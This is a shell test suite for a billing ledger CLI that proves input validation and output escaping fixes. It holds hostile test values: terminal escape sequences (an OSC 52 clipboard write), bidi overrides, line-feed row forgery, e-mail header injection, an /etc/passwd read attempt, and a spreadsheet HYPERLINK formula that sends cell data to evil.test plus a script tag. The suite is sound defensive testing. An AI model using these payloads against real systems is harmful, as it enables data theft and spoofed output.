# Hostile input (issue 17, items 6, 7 and the parts of 8 listed in its branch):
# text people type or import is refused at input (exit 2, the ledger's .dump
# unchanged, no file created or changed around it); what an older ledger
# already holds is neutralised on output (terminal, CSV, .txt and .md
# notices, the cancellation letter); import inputs that are not regular files
# or not statement-shaped are refused; invoice create --amount 0, a services
# grid that is not one, and month-end.sh without TALLY. Each case names the
# defect it proves fixed.
. "$(dirname "$0")/lib.sh"
SRC=${TALLY_SOURCE_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}

# Every command runs in AREA, where the inputs live: a refused command must
# leave it as it was (no file created, none changed).
AREA="$WORK/area"
mkdir -p "$AREA"
cd "$AREA" || exit 1
area_state() { (cd "$AREA" && find . -printf '%y %p %s\n' | sort && find . -type f -exec cksum {} + | sort); }

# refused CODE WHAT ARGS...: the command exits CODE with one error line, and
# neither the ledger (its .dump) nor AREA changes.
refused() {
  local code=$1 what=$2
  shift 2
  snapshot
  local before
  before=$(area_state)
  expect_exit "$code" "$@"
  expect_unchanged "$what"
  CHECKS=$((CHECKS + 1))
  [ "$(area_state)" == "$before" ] || fail "$what: files changed around the ledger"
}

# no_raw_controls WHAT TEXT: no control character but the line feed in TEXT
# (ESC, BEL, CR, C1 controls as UTF-8, the right-to-left override).
no_raw_controls() {
  CHECKS=$((CHECKS + 1))
  if printf '%s' "$2" | LC_ALL=C grep -q $'[\x01-\x09\x0b-\x1f\x7f]\|\xc2[\x80-\x9f]\|\xe2\x80\xae'; then
    fail "$1: a raw control character reached the output: $(printf '%s' "$2" | od -c | head -5)"
  fi
}

ESC=$'\e'
OSC52=$'\e]52;c;ZXZpbA==\a'  # a clipboard write
RLO=$'\xe2\x80\xae'          # U+202E RIGHT-TO-LEFT OVERRIDE
C1=$'\xc2\x9b'               # U+009B, the C1 control sequence introducer

ok init
ok --as-of 2026-01-01 customer add acme --name "ACME SAS" --email billing@acme.fr
ok --as-of 2026-01-01 customer add bob --name "Bob"
ok --as-of 2026-01-01 subscription add --customer acme --amount 1000 --cycle monthly --start 2026-01-01
# F2026-000001: 100.00 HT + 20 % = 120.00 TTC, due 2026-02-04 (30 days).
ok --as-of 2026-01-05 invoice create --customer acme --kind services --amount 100
# Payment 1, to reverse below.
ok --as-of 2026-01-06 pay F2026-000001 --method transfer --amount 10 --ref VIR-1  # no fee: a services invoice

# ---- item 6: text at input, refused with exit 2 ----
A=(--as-of 2026-01-10)
refused 2 "name with OSC 52" "${A[@]}" customer add evil --name "ACME$OSC52"
expect_contains "names the field and the code point" "$ERR" "invalid customer name"
expect_contains "names the byte" "$ERR" "(U+001B) at byte 5"
no_raw_controls "error message" "$ERR"
refused 2 "name with a line feed" "${A[@]}" customer add evil --name $'ACME\nF2026-000009  forged'
refused 2 "name with a carriage return" "${A[@]}" customer add evil --name $'ACME\rX'
refused 2 "name with a tab" "${A[@]}" customer add evil --name $'ACME\tSAS'
refused 2 "name with DEL" "${A[@]}" customer add evil --name $'ACME\x7f'
refused 2 "name with a C1 control" "${A[@]}" customer add evil --name "ACME${C1}31m"
refused 2 "name with a bidi override" "${A[@]}" customer add evil --name "ACME${RLO}SAS"
expect_contains "bidi named" "$ERR" "(U+202E)"
refused 2 "name with an isolate" "${A[@]}" customer add evil --name $'ACME\xe2\x81\xa6SAS'
refused 2 "blank name" "${A[@]}" customer add evil --name "   "
refused 2 "e-mail without @" "${A[@]}" customer add evil --name Evil --email not-an-email
expect_contains "e-mail named" "$ERR" "invalid customer e-mail 'not-an-email': no '@'"
refused 2 "e-mail with two @" "${A[@]}" customer add evil --name Evil --email a@b@evil.fr
refused 2 "e-mail without a domain dot" "${A[@]}" customer add evil --name Evil --email billing@localhost
refused 2 "e-mail with a space" "${A[@]}" customer add evil --name Evil --email "bill ing@evil.fr"
refused 2 "e-mail with a line feed" "${A[@]}" customer add evil --name Evil --email $'billing@evil.fr\nBcc: x@y.fr'
refused 2 "description with ESC" "${A[@]}" invoice create --customer acme --kind services --amount 10 \
  --description "Work$OSC52"
expect_contains "description named" "$ERR" "invalid description"
refused 2 "description with a bidi override" "${A[@]}" invoice create --customer acme --kind services --amount 10 \
  --description "Work${RLO}fdp.exe"
refused 2 "void reason with a line feed" "${A[@]}" invoice void F2026-000001 --reason $'error\nforged'
expect_contains "reason named" "$ERR" "invalid reason"
refused 2 "void reason blank" "${A[@]}" invoice void F2026-000001 --reason "  "
refused 2 "pay detail with ESC" "${A[@]}" pay F2026-000001 --method other --amount 5 --detail "cheque$OSC52"
refused 2 "pay ref with a bidi override" "${A[@]}" pay F2026-000001 --method sepa --amount 5 --ref "R${RLO}1"
refused 2 "waive reason with a C1 control" "${A[@]}" pay F2026-000001 --method card --amount 5 \
  --waive-fee "goodwill${C1}"
refused 2 "reversal reason with ESC" "${A[@]}" payment reverse 1 --reason "chargeback$OSC52"
refused 2 "letter ref with a bidi override" "${A[@]}" cancel --customer acme --letter-date 2026-01-10 \
  --letter-ref "1A${RLO}123"
expect_contains "letter ref named" "$ERR" "invalid letter reference"

# Bank labels: the import is all or nothing, the line named. (C0 controls
# other than tab and line breaks were already refused by the CSV reader.)
printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,VIR F2026-000001\n2026-01-08,5.00,BNK-2,VIR%s31m\n' \
  "$C1" > label-c1.csv
refused 2 "label with a C1 control" "${A[@]}" import payments label-c1.csv
expect_contains "label's line named" "$ERR" "line 3: invalid label 'VIR\\u009b31m': a C1 control character"
no_raw_controls "import error" "$ERR$OUT"
printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,"VIR\tF2026-000001"\n' > label-tab.csv
refused 2 "label with a tab" "${A[@]}" import payments label-tab.csv
printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,VIR\x7f\n' > label-del.csv
refused 2 "label with DEL" "${A[@]}" import payments label-del.csv
printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,"VIR\nF2026-000001"\n' > label-newline.csv
refused 2 "label with a quoted line feed" "${A[@]}" import payments label-newline.csv
expect_contains "newline label's line named" "$ERR" "line 2: invalid label 'VIR\\nF2026-000001': a line feed"
printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,VIR%sF2026-000001\n' "$RLO" > label-bidi.csv
refused 2 "label with a bidi override" "${A[@]}" import payments label-bidi.csv

# ---- item 7: import inputs ----
refused 2 "a directory" "${A[@]}" import payments "$AREA"
expect_contains "directory named" "$ERR" "a directory; expected a regular file"
mkfifo fifo
refused 2 "a FIFO, never opened for reading until a writer comes" "${A[@]}" import payments fifo
expect_contains "FIFO named" "$ERR" "FIFO"
# /dev/zero never ends: before the fix it was read until memory ran out; the
# timeout turns a hang into a failure.
snapshot
t_zero() { OUT=$(timeout 20 "$TALLY" "${A[@]}" import payments /dev/zero 2>"$WORK/stderr"); RC=$?; ERR=$(cat "$WORK/stderr"); }
t_zero
expect_eq "/dev/zero: exit" "$RC" "2"
expect_contains "/dev/zero named" "$ERR" "a character device"
expect_unchanged "/dev/zero"
refused 2 "/dev/null, a device too" "${A[@]}" import payments /dev/null
# A line longer than 64 KiB: refused naming its line (a 70000-byte label).
{ printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,VIR F2026-000001\n2026-01-08,5.00,BNK-3,'
  head -c 70000 /dev/zero | tr '\0' x; printf '\n'; } > long-line.csv
refused 2 "a line over 64 KiB" "${A[@]}" import payments long-line.csv
expect_contains "long line named" "$ERR" "line 3: line longer than 64 KiB (70022 bytes)"
# A wrong header says what it found and what is expected.
printf 'Datum;Betrag;Referenz;Text\n2026-01-08;10,00;BNK-1;VIR\n' > wrong-header.csv
refused 2 "a wrong header" "${A[@]}" import payments wrong-header.csv
expect_contains "header found" "$ERR" "the header 'Datum;Betrag;Referenz;Text' lacks 'date', 'amount', 'reference', 'label'"
expect_contains "header expected" "$ERR" "expected the columns date,amount,reference,label"
# Header names in any case: the statement is read (a line to suspense, no invoice named).
printf 'DATE,Amount,Reference,LABEL\n2026-01-08,7.00,BNK-9,VIREMENT INCONNU\n' > upper.csv
ok "${A[@]}" --format json import payments upper.csv
expect_eq "upper-case header: one line in suspense" "$(jf '.suspense | length')" "1"
# Standard input is still read with '-'.
printf 'date,amount,reference,label\n2026-01-08,7.00,BNK-9,VIREMENT INCONNU\n' \
  | "$TALLY" "${A[@]}" --format json import payments - > "$WORK/stdin.json"
CHECKS=$((CHECKS + 1))
[ "$(jq '.duplicates | length' "$WORK/stdin.json")" == "1" ] || fail "import from standard input: $(cat "$WORK/stdin.json")"

# ---- item 8: invoice create --amount 0 takes no number ----
refused 2 "--amount 0" "${A[@]}" invoice create --customer acme --kind services --amount 0
expect_contains "zero amount named" "$ERR" "invalid --amount '0': a line's amount HT is above 0.00"
refused 2 "--amount 0.00 among others" "${A[@]}" invoice create --customer acme --kind services --amount 10 \
  --amount 0.00
ok "${A[@]}" --format json invoice create --customer acme --kind services --amount 10
expect_eq "the next number was not consumed" "$(jf .invoice.number)" "F2026-000002"

# ---- item 8: services_grid is checked when set; a file that is not a grid is never echoed ----
refused 2 "services_grid missing" policy set services_grid "$AREA/missing.csv" --effective 2026-01-01
expect_contains "missing grid named" "$ERR" "invalid services_grid '$AREA/missing.csv'"
refused 2 "services_grid /etc/passwd" policy set services_grid /etc/passwd --effective 2026-01-01
expect_contains "not a grid" "$ERR" "not a services grid"
CHECKS=$((CHECKS + 1)); [[ "$ERR$OUT" != *root:* ]] || fail "policy set echoed /etc/passwd: $ERR"
refused 2 "services_grid a directory" policy set services_grid "$AREA" --effective 2026-01-01
refused 2 "--grid /etc/passwd" --grid /etc/passwd quote feature --days 1
CHECKS=$((CHECKS + 1)); [[ "$ERR$OUT" != *root:* ]] || fail "quote echoed /etc/passwd: $ERR $OUT"
printf 'code,label,unit,price_ht\nfeature-day,Feature development,day,700\n' > grid.csv
ok --format json policy set services_grid grid.csv --effective 2026-01-01
expect_eq "grid recorded by its absolute path" "$(jf .value)" "$AREA/grid.csv"
# An older ledger that already holds /etc/passwd: quote refuses it without a line of it.
sqlite3 "$TALLY_DB" "INSERT INTO policy(key, value, effective) VALUES ('services_grid', '/etc/passwd', '2026-01-02')"
refused 2 "quote with a policy grid of /etc/passwd" --as-of 2026-01-10 quote feature --days 1
CHECKS=$((CHECKS + 1)); [[ "$ERR$OUT" != *root:* ]] || fail "quote echoed /etc/passwd: $ERR $OUT"
sqlite3 "$TALLY_DB" "DELETE FROM policy WHERE key = 'services_grid'"

# ---- item 8: report suspense streams its rows: 88k lines in at most 64 MiB ----
# On a ledger of its own: a generated statement of 88,000 lines naming no
# invoice, all to suspense (274 MB before the fix, 9.6 MiB after).
if [ -x /usr/bin/time ]; then
  awk 'BEGIN { print "date,amount,reference,label"
               for (i = 1; i <= 88000; i++)
                 printf "2026-02-%02d,%d.%02d,BNK-%06d,VIREMENT CLIENT INCONNU %06d REMISE SEPA\n", i % 28 + 1, 10 + i % 5000, i % 100, i, i }' \
    > "$WORK/s88k.csv"
  BIG="$WORK/big.db"
  TALLY_DB="$BIG" ok init
  TALLY_DB="$BIG" ok --as-of 2026-03-01 --quiet import payments "$WORK/s88k.csv"
  for f in table json csv; do
    TALLY_DB="$BIG" /usr/bin/time -f %M -o "$WORK/rss" "$TALLY" --as-of 2026-03-01 --format "$f" report suspense \
      > "$WORK/suspense.$f"
    CHECKS=$((CHECKS + 1))
    [ "$(cat "$WORK/rss")" -le 65536 ] || fail "report suspense --format $f: peak RSS $(cat "$WORK/rss") KiB > 64 MiB"
  done
  expect_eq "88k lines listed" "$(jq '.suspense | length' "$WORK/suspense.json")" "88000"
  expect_eq "88k rows in csv" "$(wc -l < "$WORK/suspense.csv")" "88001"
  rm -f "$WORK/s88k.csv" "$BIG" "$WORK"/suspense.*
else
  echo "test_hostile_input: report suspense memory case skipped: /usr/bin/time is not installed" >&2
fi

# ---- item 8: month-end.sh with TALLY unset never calls its own function ----
mkdir -p "$WORK/script"
cp "$SRC/data/demo/month-end.sh" "$WORK/script/month-end.sh"  # no build/ next to this copy
OUT=$(cd "$WORK" && env -u TALLY PATH=/usr/bin:/bin timeout 60 bash "$WORK/script/month-end.sh" 2026-03 \
  "$SRC/data/demo/bank-statement-2026-03.xml" "$WORK/month-end-out" 2>"$WORK/stderr")
RC=$?
ERR=$(cat "$WORK/stderr")
expect_eq "month-end.sh without TALLY nor tally on PATH: exit" "$RC" "2"
expect_contains "month-end.sh says what is missing" "$ERR" "month-end.sh: no tally binary"

# ---- item 6: what an older ledger holds is neutralised on output ----
# Written behind tally's back, as an older version accepted it.
FORGED="Bob${OSC52}"$'\n'"F2026-999999  forged row"
sqlite3 "$TALLY_DB" "UPDATE customer SET name = '$FORGED' WHERE code = 'bob'"
sqlite3 "$TALLY_DB" "UPDATE customer SET name = '=HYPERLINK(\"http://evil.test/?\"&A1,\"x\") <script>alert(1)</script>' WHERE code = 'acme'"
ok customer list
no_raw_controls "customer list" "$OUT"
expect_contains "escaped, visible" "$OUT" 'Bob\x1b]52;c;ZXZpbA==\x07\nF2026-999999  forged row'
expect_eq "no forged row: header and two customers" "$(printf '%s\n' "$OUT" | wc -l)" "3"
ok customer show bob
no_raw_controls "customer show" "$OUT"
ok --format csv customer list
expect_contains "CSV formula neutralised" "$OUT" "\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\") <script>"
# Amount columns stay plain numbers: the customer credit line of a statement
# is negative. An invoice of 50.00 HT + 20 % = 60.00 TTC, paid 100.00: 40.00
# to acme's credit (P3), shown as -40.00 on the cancellation statement.
ok "${A[@]}" --format json invoice create --customer acme --kind services --amount 50
ok "${A[@]}" pay "$(jf .invoice.number)" --method transfer --amount 100 --ref VIR-2
ok --as-of 2026-03-10 --dry-run --format csv cancel --customer acme --letter-date 2026-03-10 --letter-ref RA1
expect_contains "negative amount not prefixed" "$OUT" $'Customer credit,credit,P3,-40.00\r'
CHECKS=$((CHECKS + 1)); [[ "$OUT" != *"'-"* ]] || fail "an amount was prefixed: $OUT"
# An error message quoting hostile text shows it escaped.
expect_exit 3 customer show "x${OSC52}"
no_raw_controls "error message quoting a value" "$ERR"
# Late-payment notices: .txt escaped, .md without HTML (F2026-000001 is late on 2026-03-10).
sqlite3 "$TALLY_DB" "UPDATE customer SET name = 'ACME$OSC52 <b>SAS</b> | x' WHERE code = 'acme'"
ok --as-of 2026-03-10 overdue --notices "$AREA/txt"
NOTICE=$(cat "$AREA"/txt/acme-*.txt)
no_raw_controls ".txt notice" "$NOTICE"
expect_contains ".txt notice: name escaped" "$NOTICE" 'ACME\x1b]52;c;ZXZpbA==\x07 <b>SAS</b> | x (acme)'
ok --as-of 2026-03-10 overdue --notices "$AREA/md" --notice-format md
NOTICE=$(cat "$AREA"/md/acme-*.md)
no_raw_controls ".md notice" "$NOTICE"
expect_contains ".md notice: HTML escaped" "$NOTICE" 'ACME\x1b]52;c;ZXZpbA==\x07 &lt;b&gt;SAS&lt;/b&gt; &#124; x (acme)'
# The cancellation letter (Markdown).
ok --as-of 2026-03-10 cancel --customer acme --letter-date 2026-03-10 --letter-ref RA1 --statement "$AREA/letter.md"
LETTER=$(cat "$AREA/letter.md")
no_raw_controls "letter" "$LETTER"
expect_contains "letter: HTML escaped" "$LETTER" 'Destinataire : ACME\x1b]52;c;ZXZpbA==\x07 &lt;b&gt;SAS&lt;/b&gt; &#124; x (acme)'
CHECKS=$((CHECKS + 1)); [[ "$LETTER" != *"<b>"* ]] || fail "raw HTML in the letter"

finish
